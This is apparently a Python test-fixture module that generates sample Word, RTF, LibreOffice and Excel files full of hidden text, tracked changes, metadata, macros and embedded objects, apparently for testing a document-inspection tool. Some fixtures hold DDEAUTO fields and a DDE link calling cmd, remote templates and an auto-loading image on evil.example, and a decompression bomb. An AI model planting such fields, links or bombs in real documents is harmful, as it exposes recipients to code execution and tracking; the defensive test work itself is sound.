"""The files of the corpus that are more than a line: letters, books and texts with all that such files may hold."""

from __future__ import annotations

import io
import zipfile

from tests.checks.office.build import (
    PLAIN,
    R,
    W,
    app,
    core,
    doc,
    document,
    docx,
    odf,
    packed,
    relations,
    rows,
    xlsx,
)
from tests.checks.office.sign import signature

_MAIN = "word/_rels/document.xml.rels"
CHANGES = (
    '<w:p><w:r><w:t>The budget is </w:t></w:r><w:del w:author="Dana Draft" w:date="2020-01-06T09:00:00Z"><w:r>'
    '<w:delText>ten million</w:delText></w:r></w:del><w:ins w:author="Ed Editor" w:date="2020-01-06T09:05:00Z"><w:r>'
    "<w:t>nine million</w:t></w:r></w:ins></w:p>"
)
HIDDEN = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>copy four of nine</w:t></w:r></w:p>"
SHADED = (
    '<w:p><w:pPr><w:shd w:val="clear" w:fill="1F3864"/></w:pPr><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
    "<w:t>White words on a dark bar</w:t></w:r></w:p>"
)
_DDE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def plain_word() -> bytes:
    """A letter as Word writes it, with the names taken out."""
    return docx(
        PLAIN,
        {
            "docProps/core.xml": core(creator="", revision="4"),
            "docProps/app.xml": app(
                Application="Microsoft Office Word",
                AppVersion="16.0000",
                Template="Normal.dotm",
                TotalTime="12",
                Company="",
            ),
            _MAIN: relations(("hyperlink", "https://example.org/", True), ("settings", "settings.xml", False)),
            "word/settings.xml": (
                f'<w:settings {W}><w:rsids><w:rsidRoot w:val="00A1"/><w:rsid w:val="00A1"/></w:rsids></w:settings>'
            ),
        },
    )


def named() -> bytes:
    """A letter with names, packed anew by something else than Office, and with a label."""
    label = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
        '<property name="MSIP_Label_0a1b2c3d-0000-4000-8000-000000000001_SiteId"><v>'
        "11112222-0000-4000-8000-00000000aaaa</v></property></Properties>"
    )
    parts: dict[str, str | bytes] = {
        "docProps/core.xml": core(creator="Ann Author", lastModifiedBy="Bo Boss"),
        "docProps/app.xml": app(Application="Microsoft Office Word", Company="Example Department"),
        "docProps/custom.xml": label,
    }
    return docx(PLAIN, parts, stamp=(2026, 1, 6, 10, 0, 0))


def calling_home() -> bytes:
    """A letter with a template on a server, a path of a user, a live link, code and an object."""
    return docx(
        _DDE,
        {
            _MAIN: relations(("settings", "settings.xml", False), ("oleObject", "embeddings/oleObject1.bin", False)),
            "word/settings.xml": f"<w:settings {W}/>",
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/t.dotm", True)),
            "docProps/app.xml": app(HyperlinkBase="C:\\Users\\annauthor\\Desktop\\"),
            "word/vbaProject.bin": b"code",
            "word/embeddings/oleObject1.bin": b"\x00" * 600,
        },
    )


def signed(*, change: bool = False) -> bytes:
    """A letter that is signed but for its properties, and perhaps changed in one word afterwards."""
    ids = relations(("settings", "settings.xml", False), ("hyperlink", "https://example.org/", True))
    main = document(PLAIN).encode()
    settings = f"<w:settings {W}/>".encode()
    form = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Target="settings.xml" TargetMode="Internal" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"></Relationship>'
        b"</Relationships>"
    )
    made = signature({"word/document.xml": main, "word/settings.xml": settings}, {_MAIN: (["rId1"], form)})
    body = PLAIN.replace("second", "third") if change else PLAIN
    return docx(body, {_MAIN: ids, "word/settings.xml": settings, "_xmlsignatures/sig1.xml": made})


def bomb() -> bytes:
    """A letter whose text inflates a thousandfold."""
    return docx(PLAIN, {"word/header1.xml": document("<w:p/>" + " " * 30_000_000, "hdr")})


def with_a_theme() -> bytes:
    """A letter of 1997 that ends in a zip, as Word puts it there for its theme; `zipfile` takes it for a zip."""
    data = doc(more={"Data": packed({"theme/theme1.xml": "<a/>"}).rjust(4096, b"\x00")})
    assert zipfile.is_zipfile(io.BytesIO(data))
    return data


def nested_letter() -> bytes:
    """A letter with an archive within."""
    inner = packed({"list.txt": "one\ntwo\n"})
    return docx(PLAIN, {_MAIN: relations(("package", "embeddings/all.zip", False)), "word/embeddings/all.zip": inner})


RTF = rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}{\info{\title }}\pard The meeting is on the second floor.\par}"
RTF_NAMED = (
    rb"{\rtf1\ansi{\*\generator Riched20 10.0;}{\info{\author Ann Author}{\operator Bo Boss}\version3\edmins7}"
    rb"{\*\revtbl{Unknown;}{Ed Editor;}}{\*\template https://evil.example/t.dot}"
    rb"The budget is {\deleted\revauthdel1 ten}{\revised\revauth1 nine} million{\v copy four}."
    rb"{\field{\*\fldinst DDEAUTO cmd x}{\fldrslt }}{\object\objemb{\*\objclass Package}{\*\objdata 01050000}}"
    rb"{\*\atnauthor Cy}{\*\annotation why nine?}\par}"
)
_ODF_STYLES = (
    '<style:style style:name="T1" style:family="text"><style:text-properties text:display="none"/></style:style>'
)
_ODF_CHANGES = (
    '<text:tracked-changes><text:changed-region text:id="c1"><text:deletion><office:change-info><dc:creator>Dana Draft'
    "</dc:creator><dc:date>2020-01-06T09:00:00</dc:date></office:change-info><text:p>ten million</text:p>"
    "</text:deletion></text:changed-region></text:tracked-changes>"
)
_ODF_META = (
    "<meta:initial-creator>Ann Author</meta:initial-creator><meta:generator>LibreOffice/7.4</meta:generator>"
    "<meta:editing-cycles>3</meta:editing-cycles>"
)


def free() -> bytes:
    """A text of LibreOffice with all that one may hold."""
    body = (
        _ODF_CHANGES
        + '<text:p>The budget is nine million.<text:span text:style-name="T1">copy four</text:span><office:annotation>'
        "<dc:creator>Cy</dc:creator><text:p>why nine?</text:p></office:annotation></text:p>"
        '<text:p><draw:frame><draw:image xlink:href="https://evil.example/p.png" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
    )
    return odf(body, styles=_ODF_STYLES, meta=_ODF_META, more={"Basic/Standard/Module1.xml": "<m/>"})


def hidden_ods() -> bytes:
    """A table of LibreOffice with a hidden sheet."""
    style = (
        '<style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/>'
        "</style:style>"
    )
    cell = "<table:table-row><table:table-cell><text:p>eleven</text:p></table:table-cell></table:table-row>"
    body = f'<table:table table:name="A">{cell}</table:table>'
    body += f'<table:table table:name="B" table:style-name="ta2">{cell}</table:table>'
    return odf(body, "spreadsheet", style)


def locked_odt() -> bytes:
    """A text of LibreOffice that needs a password."""
    entry = '<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>'
    manifest = f'<m:manifest xmlns:m="x">{entry}</m:manifest>'
    return odf("", more={"META-INF/manifest.xml": manifest, "content.xml": b"\x8f\x02" * 40})


def commented_book() -> bytes:
    """A workbook with a hidden sheet, a hidden row, a comment in a thread, and a live link."""
    return xlsx(
        {"Costs": rows(("rent", "eleven"), ("spare", "four"), hidden=2), "Notes": rows(("names",))},
        {"Notes": "veryHidden"},
        {
            "xl/threadedComments/threadedComment1.xml": (
                '<ThreadedComments xmlns="t"><threadedComment ref="A1" dT="2020-01-06T09:00:00" personId="{1}" '
                'id="{2}"><text>too high</text></threadedComment></ThreadedComments>'
            ),
            "xl/persons/person.xml": (
                '<personList xmlns="t"><person displayName="Cy Critic" id="{1}" userId="cy@a.org"/></personList>'
            ),
            "xl/externalLinks/externalLink1.xml": (
                f'<externalLink xmlns="m" {R}><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'
            ),
        },
    )
